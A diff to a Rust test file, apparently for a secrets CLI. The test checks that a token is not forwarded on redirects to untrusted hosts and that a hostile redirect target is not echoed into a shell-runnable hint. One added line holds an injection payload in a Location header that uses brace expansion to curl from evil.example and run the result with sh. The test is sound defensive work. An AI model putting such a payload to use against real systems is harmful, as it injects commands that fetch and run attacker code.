@@ -231,6 +231,12 @@ fn a_token_follows_no_redirect_to_another_host_and_no_endless_one() {
     });
     let foreign = elsewhere.home().cv(["get", "plex"]).exits(7).says("which is not trusted with the token");
     assert!(foreign.stderr.contains("CLAUDE_VAULT_TRUSTED_HOSTS=127.0.0.2:"));
+    // Nor is a host put into a hint that a shell would run something of.
+    let hostile = Hostile::start(move |stream, _| {
+        let location = "https://x;{curl,evil.example,-ox};{sh,x};$(sh)/";
+        drop(write!(stream, "HTTP/1.1 307 T\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n"));
+    });
+    assert!(!hostile.home().cv(["get", "plex"]).exits(7).all().contains("curl"));
     let thief_elsewhere = TcpListener::bind(("127.0.0.2", 0)).unwrap();
     drop(thief_elsewhere);
     assert_eq!(thief.seen.load(Ordering::SeqCst), 0);
